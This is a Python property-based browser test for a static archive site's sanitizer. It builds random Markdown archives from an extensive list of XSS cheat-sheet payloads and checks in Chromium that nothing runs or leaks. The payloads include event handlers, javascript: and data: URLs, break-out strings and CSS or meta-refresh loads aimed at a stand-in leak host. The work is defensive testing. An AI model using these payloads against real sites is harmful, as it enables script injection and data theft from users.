"""Random hostile archives, built and opened in Chromium: nothing runs, nothing leaves the site,
and nothing of the content takes the theme's names.

Hypothesis writes archives from a grammar of hostile fragments, the classes of the well-known
XSS cheat sheets: event handlers, script-bearing URLs (javascript:, vbscript:, data:, with
entities, tabs and case to hide them), SVG and MathML, attribute and tag break-outs, Markdown
links, images, references and attribute lists (`{: onclick=… }`, `{: #__config }`,
`{: .md-skip }`), md_in_html, footnotes, admonitions, code, CSS `url(…)`, <base>, <meta
refresh>, <link rel=prefetch>, srcset and the like. Every fragment is in the bodies of every
archive (a permutation of them, spread over the articles, is what varies), and the front
matter and the entity files hold single-line fragments in every text field.

A fragment that ran would set `top.__pwned`, open a dialog or log PWNED; one that fetched would
ask for leak.invalid (a host that is not the site, and that Chromium does not resolve). A body's
web image, which build_tools.publish.sanitize keeps on purpose, may ask for images.example only.

Each example is one `archive build` and every page generated from the archive opened over http
and from file://, so there are few: EXAMPLES builds, derandomized (the same archives on every
run), no shrinking (each step would be a build) and no example database.
"""

from __future__ import annotations

import shutil
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser, Page
from playwright.sync_api import Error as PlaywrightError

from build_tools.check import check_archive
from tests.browser.conftest import Site, Watch, build_site, serving, write_archive
from tests.browser.test_hostile_templates import what_ran

EXAMPLES = 4
LEAK = "http://leak.invalid"
WEB_IMAGE = "https://images.example/photo.png"
# What a fragment does when it runs; every one of them is seen by the test.
ACTIONS = [
    "top.__pwned=1",
    "alert(1)",
    "console.log(/PWNED/.source)",
    "top.__pwned=1;alert(1)",
    "top['__pw'+'ned']=1",
]

# --- the grammar -------------------------------------------------------------------------------
# ACTION is replaced by one of ACTIONS, LEAK by an address on leak.invalid, IMG by the image
# address of the place: a body may only hold web images (`archive check` refuses the others), so
# there it is WEB_IMAGE; in a field, where nothing is an image, it is `x`.

EVENT_HANDLERS = [
    "<img src=IMG onerror=ACTION>",
    '<IMG SRC="IMG" OnErRoR="ACTION">',
    "<img/src=IMG/onerror=ACTION>",
    "<svg onload=ACTION>",
    "<svg/onload=ACTION>",
    "<svg><script>ACTION</script></svg>",
    "<svg><animate onbegin=ACTION attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:ACTION"><text x=20 y=20>svg link</text></a></svg>',
    "<svg><set attributeName=onload to=ACTION /></svg>",
    '<math><mi xlink:href="javascript:ACTION">math link</mi></math>',
    "<math><mtext><table><mglyph><style><img src=IMG onerror=ACTION>",
    "<body onload=ACTION>",
    "<details open ontoggle=ACTION>details</details>",
    "<input autofocus onfocus=ACTION>",
    "<video><source onerror=ACTION></video>",
    "<audio src=x onerror=ACTION>",
    "<marquee onstart=ACTION>marquee</marquee>",
    "<div onmouseover=ACTION>hover div</div>",
    "<x onclick=ACTION>custom element</x>",
    '<span style="animation-name:spin" onanimationstart=ACTION>spin</span>',
    "<script>ACTION</script>",
    "<ScRiPt>ACTION</sCrIpT>",
    f"<script src={LEAK}/s.js></script>",
    '<iframe src="javascript:ACTION"></iframe>',
    '<iframe srcdoc="<script>ACTION</script>"></iframe>',
    '<object data="javascript:ACTION"></object>',
    '<embed src="javascript:ACTION">',
    '<form action="javascript:ACTION"><button>form</button></form>',
    '<button formaction="javascript:ACTION">formaction</button>',
    '<a href="#" onclick=ACTION>handler link</a>',
    '<noscript><p title="</noscript><img src=IMG onerror=ACTION>"></noscript>',
    "<template><script>ACTION</script></template>",
    "<textarea><script>ACTION</script></textarea>",
    "<xmp><img src=IMG onerror=ACTION></xmp>",
    "<p>unclosed <b onmouseover=ACTION>bold",
]
SCRIPT_URLS = [
    '<a href="javascript:ACTION">js</a>',
    '<a href="JaVaScRiPt:ACTION">case</a>',
    '<a href="java&#x09;script:ACTION">tab</a>',
    '<a href="jav&#x0A;ascript:ACTION">newline</a>',
    '<a href="&#106;&#97;vascript:ACTION">entities</a>',
    '<a href=" &#14; javascript:ACTION">space</a>',
    '<a href="javascript&colon;ACTION">colon</a>',
    '<a href="vbscript:msgbox(1)">vbs</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data64</a>',
    '<a href="data:text/html,<script>ACTION</script>">data</a>',
    "[md js](javascript:ACTION)",
    "[md case](JAVASCRIPT:ACTION)",
    "[md angle](<javascript:ACTION>)",
    "[md entity](javascript&#58;ACTION)",
    '[md space]( javascript:ACTION "t")',
    "[md data](data:text/html,<script>ACTION</script>)",
    "<javascript:ACTION>",
    f'[md title]({LEAK}/t "t\\" onmouseover=\\"ACTION")',
]
BREAK_OUTS = [
    '"><img src=IMG onerror=ACTION>',
    "'><svg onload=ACTION>",
    '" onmouseover="ACTION',
    "' onfocus='ACTION' autofocus='",
    "</title><img src=IMG onerror=ACTION>",
    "</textarea><script>ACTION</script>",
    "</script><script>ACTION</script>",
    "--><script>ACTION</script>",
    "]]><script>ACTION</script>",
    "</style><script>ACTION</script>",
    '<!--<img src="--><img src=IMG onerror=ACTION//">',
    "'-ACTION-'",
    '";ACTION;//',
    "{{ 7*7 }}",
    "{% raw %}",
    "${ACTION}",
    "&lt;img src=IMG onerror=ACTION&gt;",
    "&#60;script&#62;ACTION&#60;/script&#62;",
    "%3Cscript%3EACTION%3C/script%3E",
    "\u202e<svg onload=ACTION>",
    "`<script>ACTION</script>`",
    "``<img src=IMG onerror=ACTION>``",
]
MARKDOWN_INLINE = [
    '![md image](IMG "t\\" onerror=\\"ACTION")',
    "![md attr](IMG){: onerror=ACTION }",
    "[md attr link](https://example.org/){: onclick=ACTION }",
    "[md id](https://example.org/){: #__search }",
    "[md class](https://example.org/){: .md-skip .md-typeset }",
]
LEAKS = [
    f'<p style="background:url({LEAK}/style.png)">styled</p>',
    f"<span style=\"background-image:url('{LEAK}/span.png')\">styled span</span>",
    f'<div style="behavior:url({LEAK}/x.htc)">behaviour</div>',
    f"<style>@import '{LEAK}/import.css';</style>",
    f"<style>p{{background:url({LEAK}/css.png)}}</style>",
    f'<base href="{LEAK}/">',
    f'<meta http-equiv="refresh" content="0;url={LEAK}/refresh">',
    f'<link rel="prefetch" href="{LEAK}/prefetch">',
    f'<link rel="stylesheet" href="{LEAK}/link.css">',
    f'<img src=IMG srcset="{LEAK}/1x.png 1x, {LEAK}/2x.png 2x">',
    f'<picture><source srcset="{LEAK}/source.png"><img src=IMG></picture>',
    f'<video poster="{LEAK}/poster.png"></video>',
    f'<input type=image src="{LEAK}/input.png">',
    f'<table background="{LEAK}/table.png"><tr><td>cell</td></tr></table>',
    f'<img src=IMG lowsrc="{LEAK}/lowsrc.png">',
    f'<object data="{LEAK}/object"></object>',
    f'<iframe src="{LEAK}/frame"></iframe>',
    f'<embed src="{LEAK}/embed">',
    f'<audio src="{LEAK}/audio.mp3" autoplay></audio>',
    f'<video src="{LEAK}/video.mp4" autoplay></video>',
    f'<svg><image href="{LEAK}/svg.png"/></svg>',
    f'<svg><use href="{LEAK}/use.svg#x"/></svg>',
    f'<link rel="dns-prefetch" href="{LEAK}">',
    f'<td style="background:url({LEAK}/td.png)">cell</td>',
]
THEME_NAMES = [
    f'<div id="__config">{{"base":"{LEAK}/","search":"{LEAK}/worker.js"}}</div>',
    f'<script id="__config" type="application/json">{{"search":"{LEAK}/worker.js"}}</script>',
    '<input id="__drawer" type="checkbox" checked>',
    '<a id="__search" href="#">search anchor</a>',
    '<p class="md-skip">skip</p>',
    '<span class="md-typeset md-content">theme classes</span>',
    '<div data-md-component="content">component</div>',
    '<label for="__drawer">drawer label</label>',
    '<div id="ra-search" data-index="LEAK/">site script name</div>',
]
INLINE = EVENT_HANDLERS + SCRIPT_URLS + BREAK_OUTS + MARKDOWN_INLINE + LEAKS + THEME_NAMES

# Only in a body: they take lines of their own.
BLOCKS = [
    'attribute list paragraph\n{: onclick="ACTION" onmouseover="ACTION" }',
    "config paragraph\n{: #__config }",
    "skip paragraph\n{: .md-skip }",
    "drawer paragraph\n{: #__drawer .md-typeset .md-sidebar }",
    f'styled paragraph\n{{: style="background:url({LEAK}/attr.png)" }}',
    "## Heading id {: id='x\"><img src=IMG onerror=ACTION>' }",
    "## Heading focus {: id='x\" tabindex=1 autofocus onfocus=\"ACTION' }",
    "## Heading hover {: id='x\" onmouseover=\"ACTION' }",
    "## Heading label {: data-toc-label='<img src=IMG onerror=ACTION>' }",
    "## __config",
    "## __drawer",
    "## Heading search {: #__search }",
    "## <img src=IMG onerror=ACTION>",
    "### md-skip {: .md-skip }",
    '<div markdown="1" onclick="ACTION">\n**bold** [x](javascript:ACTION)\n</div>',
    "<div markdown>\nin html\n{: #__config .md-skip }\n</div>",
    f'<div markdown="block" id="__config">\n{{"search":"{LEAK}/worker.js"}}\n</div>',
    "footnote[^evil]\n\n[^evil]: <img src=IMG onerror=ACTION> [x](javascript:ACTION)",
    "footnote[^__config]\n\n[^__config]: a footnote named like the theme's config",
    '!!! md-typeset "<img src=IMG onerror=ACTION>"\n    admonition [x](javascript:ACTION)',
    "!!! note onclick=ACTION\n    admonition with a handler",
    "!!! md-skip\n    admonition named md-skip",
    '!!! danger ""\n    <script>ACTION</script>',
    "```html\n<script>ACTION</script>\n```",
    "    <script>ACTION</script>",
    "[reference][evil]\n\n[evil]: javascript:ACTION",
    '![reference image][pic]\n\n[pic]: IMG "t\\" onerror=\\"ACTION"',
    "The HTML here.\n\n*[HTML]: <img src=IMG onerror=ACTION>",
    "Term\n:   <img src=IMG onerror=ACTION>",
    "| a | b |\n|---|---|\n| <img src=IMG onerror=ACTION> | [x](javascript:ACTION) |",
    f'<table><tr><td style="background:url({LEAK}/cell.png)" onmouseover=ACTION>cell</td></tr></table>',
    "<!-- --><script>ACTION</script> -->",
]
URL_TAILS = [
    '"><svg/onload=ACTION>',
    "'><img/src=x/onerror=ACTION>",
    '#"onmouseover="ACTION',
    "?q=<script>ACTION</script>",
    "/javascript:ACTION",
]
ENTITY_TYPES = ["person", "organization", "place", "event", "other"]


def fill(fragment: str, action: str, number: int, image: str) -> str:
    """A fragment made concrete: its action, its own leak address (to tell which one asked)
    and its image address."""
    return fragment.replace("ACTION", action).replace(LEAK, f"{LEAK}/{number}").replace("IMG", image)


@st.composite
def fragments(draw: st.DrawFn, pool: list[str], image: str, size: tuple[int, int]) -> list[str]:
    chosen = draw(st.lists(st.sampled_from(pool), min_size=size[0], max_size=size[1]))
    return [fill(f, draw(st.sampled_from(ACTIONS)), draw(st.integers(0, 999)), image) for f in chosen]


@st.composite
def field(draw: st.DrawFn, label: str) -> str:
    """A front matter or registry text: a label that keeps it unique, then hostile fragments."""
    return " ".join([label, *draw(fragments(INLINE, "x", (1, 3)))])


@st.composite
def archives(draw: st.DrawFn) -> dict[str, str]:
    """{path: text} of an archive: every fragment in the bodies, hostile fields everywhere."""
    articles = draw(st.integers(4, 6))
    entity_ids = [f"hostile-{n}" for n in range(draw(st.integers(2, 3)))]
    sources = [draw(field(f"Source {n}")) for n in range(2)]
    tags = [draw(field(f"Tag {n}")) for n in range(2)]
    files = {}
    for n, entity_id in enumerate(entity_ids):
        files[f"entities/{entity_id}.yml"] = dump(
            {
                "type": draw(st.sampled_from(ENTITY_TYPES)),
                "name": draw(field(f"Name {n}")),
                "aliases": [f"Hostcorp{n}", draw(field(f"Alias {n}"))],
                "description": draw(field(f"Description {n}")),
            }
        )
    body_fragments = draw(st.permutations(BLOCKS + INLINE))
    share = -(-len(body_fragments) // articles)
    for n in range(articles):
        chunk = body_fragments[n * share : (n + 1) * share]
        paragraphs = [f"Hostcorp{n % len(entity_ids)} said on 1 March 2022 that this is text."]
        after_block = True
        for fragment in chunk:
            text = fill(fragment, draw(st.sampled_from(ACTIONS)), draw(st.integers(0, 999)), WEB_IMAGE)
            inline = fragment in INLINE
            # Inline fragments may share a paragraph or a line; a block keeps its lines to itself.
            glue = (
                draw(st.sampled_from(["\n\n", "\n\n", " ", "\n"])) if inline and not after_block else "\n\n"
            )
            paragraphs.append(glue + text)
            after_block = not inline
        front = {
            "title": draw(field(f"Title {n}")),
            "date": f"2022-03-0{draw(st.integers(1, 2))}",
            "source": draw(st.sampled_from(sources)),
            "url": f"https://example.org/{n}"
            + fill(draw(st.sampled_from(URL_TAILS)), "top.__pwned=1", n, "x"),
            "archive_url": f"https://web.archive.org/{n}"
            + fill(draw(st.sampled_from(URL_TAILS)), "alert(1)", n, "x"),
            "authors": [draw(field(f"Author {n}"))],
            "summary": draw(field(f"Summary {n}")),
            "tags": draw(st.lists(st.sampled_from(tags), min_size=1, max_size=2, unique=True)),
            "rights": draw(field(f"Rights {n}")),
            "credits": [draw(field(f"Credit {n}"))],
            "entities": draw(st.lists(st.sampled_from(entity_ids), max_size=2, unique=True)),
        }
        body = "".join(paragraphs).replace("\n\n\n", "\n\n")
        files[f"articles/2022/03/hostile-{n}.md"] = f"---\n{dump(front)}---\n\n{body}\n"
    return files


def dump(data: dict[str, Any]) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1_000_000)


# --- the site ----------------------------------------------------------------------------------


@contextmanager
def built(files: dict[str, str]) -> Iterator[Site]:
    """The archive built and served. Files `archive check` refuses are left out first (what it
    refuses is the checker's business, tested elsewhere); the grammar is written so that it
    refuses few, and the test fails if it refuses half the articles."""
    folder = Path(tempfile.mkdtemp(prefix="hostile-property-"))
    try:
        root = write_archive(folder / "archive", files)
        kept, refused = dict(files), []
        for _ in range(3):  # leaving out an entity can make an article refer to nothing
            errors = [p for p in check_archive(root).problems if p.severity == "error"]
            if not errors:
                break
            bad = {rel for rel in kept for p in errors if p.source.path.endswith(rel)}
            assert bad, [p.format() for p in errors]
            refused += [p.format() for p in errors]
            for rel in bad:
                (root / rel).unlink()
                del kept[rel]
        articles = [rel for rel in files if rel.startswith("articles/")]
        if len([rel for rel in articles if rel in kept]) * 2 < len(articles):
            pytest.fail("`archive check` refused most of the archive:\n" + "\n".join(refused))
        build_site(root, folder / "site", folder / "cache")
        with serving(folder / "site") as site:
            yield site
    finally:
        shutil.rmtree(folder, ignore_errors=True)


DOCS = Path(__file__).resolve().parents[2] / "docs"


def generated_pages(site: Site) -> list[str]:
    """Every page the archive made (the pages from docs/ hold none of it; the templates they
    share are tested in test_hostile_templates.py), with the page of a missing address."""
    written = {p.relative_to(DOCS).with_suffix(".html").as_posix() for p in DOCS.rglob("*.md")}
    return sorted(
        path
        for p in site.folder.rglob("*.html")
        if (path := p.relative_to(site.folder).as_posix()) not in written
    )


class ContentNames(HTMLParser):
    """The ids and classes of the elements inside the page's <article>, as written (before the
    theme's scripts run): content must take neither the theme's ids (`__…`) nor its classes
    (`md-…`). An element the generator wrote carries a class of its own (`ra-…`)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.inside = False  # pages hold one <article>, never nested
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.inside:
            self.found += theme_names(tag, {name: value or "" for name, value in attrs})
        self.inside = self.inside or tag == "article"

    def handle_endtag(self, tag: str) -> None:
        self.inside = self.inside and tag != "article"


def theme_names(tag: str, attributes: dict[str, str]) -> list[str]:
    classes = attributes.get("class", "").split()
    found = [f'<{tag} id="{attributes["id"]}">'] if attributes.get("id", "").startswith("__") else []
    if not any(name.startswith("ra-") for name in classes):
        found += [f'<{tag} class="{name}">' for name in classes if name.startswith("md-")]
    return found


# The same in the page as the browser holds it. Material's scripts wrap tables in two <div>s of
# their own and number code blocks (<pre id="__code_0">); the built pages hold neither.
CONTENT_NAMES = """() => {
  const found = [];
  const wrappers = ["md-typeset__scrollwrap", "md-typeset__table"];
  for (const element of document.querySelectorAll("article *")) {
    const tag = element.tagName.toLowerCase();
    if (element.id.startsWith("__") && !(tag === "pre" && /^__code_\\d+$/.test(element.id)))
      found.push(`<${tag} id="${element.id}">`);
    const classes = [...element.classList];
    if (classes.some(name => name.startsWith("ra-"))) continue;
    for (const name of classes)
      if (name.startsWith("md-") && !(tag === "div" && wrappers.includes(name)))
        found.push(`<${tag} class="${name}">`);
  }
  return found;
}"""
SETTLE = "() => new Promise(done => setTimeout(done, 0))"  # what the load event started


def stays_on_site(url: str, site: Site, scheme: str) -> bool:
    if url.startswith(("data:", "blob:", "about:")) or url.startswith(WEB_IMAGE.rsplit("/", 1)[0] + "/"):
        return True
    return url.startswith(site.http_url) if scheme == "http" else url.startswith("file:///")


def visit(page: Page, watch: Watch, site: Site, scheme: str, path: str) -> list[str]:
    """What went wrong on one page: script that ran, a request that left the site, a name of
    the theme's taken by content."""
    watch.clear()
    url = site.url(scheme, path)
    try:
        page.goto(url)
        page.evaluate(SETTLE)
        # Not provoked: an inline handler shows as an attribute (what_ran's LIVE_MARKUP), and
        # firing every event at every element would cost a third of the time of the pages.
        found = what_ran(page, watch, provoke=False)
        found += page.evaluate(CONTENT_NAMES)
        if page.url != url:
            found.append(f"the page went to {page.url}")
    except PlaywrightError as error:  # it navigated away, or its scripts broke
        found = [f"{type(error).__name__}: {error.message.splitlines()[0]}"]
    found += [
        f"request to {request}" for request in watch.requests if not stays_on_site(request, site, scheme)
    ]
    return found


@contextmanager
def watched(browser: Browser) -> Iterator[tuple[Page, Watch]]:
    """A page in a fresh browser context, and what it does."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(15_000)
    try:
        watch = Watch().attach(context)
        yield context.new_page(), watch
    finally:
        context.close()


@pytest.mark.browser
@pytest.mark.slow
@settings(
    max_examples=EXAMPLES,
    derandomize=True,
    database=None,
    deadline=None,
    phases=[Phase.generate],
    suppress_health_check=list(HealthCheck),
)
@given(files=archives())
def test_hostile_property_random_archives_run_nothing_and_leak_nothing(
    browser: Browser, files: dict[str, str]
) -> None:
    """Every page generated from a random hostile archive, as built and in Chromium over http
    and from file://: no script runs, no request leaves the site, no element of the content has
    an id of the theme's (`__…`) or a class of its (`md-…`)."""
    with built(files) as site:
        pages = generated_pages(site)
        assert any(path.startswith("articles/") for path in pages)
        problems: dict[str, list[str]] = {}
        for path in pages:
            reading = ContentNames()
            reading.feed((site.folder / path).read_text("utf-8"))
            if reading.found:
                problems[f"{path} (as built)"] = reading.found
        for scheme in ("http", "file"):
            with watched(browser) as (page, watch):
                for path in pages:
                    found = visit(page, watch, site, scheme, path)
                    if found:
                        problems[f"{path} ({scheme})"] = found
        assert problems == {}, "\n".join(f"{where}: {found}" for where, found in problems.items())


def test_hostile_property_detector_sees_script_leaks_and_theme_names(
    browser: Browser, tmp_path: Path
) -> None:
    """The checks above fail on a page that runs script, asks another host for an image and
    gives content the theme's names."""
    (tmp_path / "index.html").write_text(
        '<!doctype html><title>t</title><article><p id="__drawer" class="md-typeset ok">x</p>'
        f'<img src="{LEAK}/1.png"><a href="javascript:alert(1)">x</a></article>'
        "<script>top.__pwned=1;console.log('PWNED')</script>",
        "utf-8",
    )
    names = ContentNames()
    names.feed((tmp_path / "index.html").read_text("utf-8"))
    assert names.found == ['<p id="__drawer">', '<p class="md-typeset">']
    with serving(tmp_path) as site:
        for scheme in ("http", "file"):
            with watched(browser) as (page, watch):
                found = visit(page, watch, site, scheme, "index.html")
            assert set(found) >= {
                "console log: PWNED",
                "global __pwned",
                '<p id="__drawer">',
                '<p class="md-typeset">',
                '<a href="javascript:alert(1)">',
                f"request to {LEAK}/1.png",
            }, found
